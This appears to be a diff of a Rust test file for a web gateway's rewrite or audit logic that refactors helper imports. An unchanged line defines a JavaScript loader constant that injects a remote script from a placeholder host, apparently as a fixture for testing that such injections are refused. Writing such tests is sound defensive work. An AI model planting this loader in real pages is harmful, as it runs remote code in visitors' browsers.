@@ -7,18 +7,12 @@
 //! links to PDFs, images and documents in uploads, and ordinary pages stay byte for byte.
 
 mod common;
-mod harness;
 
 use common::gateway::{Harness, full, harness, resp};
-use harness::{clean, site};
-use lachan::audit::Event;
+use common::rewrite::{clean, rule_ids as rules, site};
 
 const LOADER: &str = "var s=document.createElement('script');s.src='https://bet.test/r.js';\
 document.head.appendChild(s);";
-
-fn rules(events: &[Event]) -> Vec<&str> {
-    events.iter().map(|e| e.rule.as_ref()).collect()
-}
 
 async fn assert_refused(h: &Harness, path: &str) {
     let before = h.events_of("upload.doorway").len();
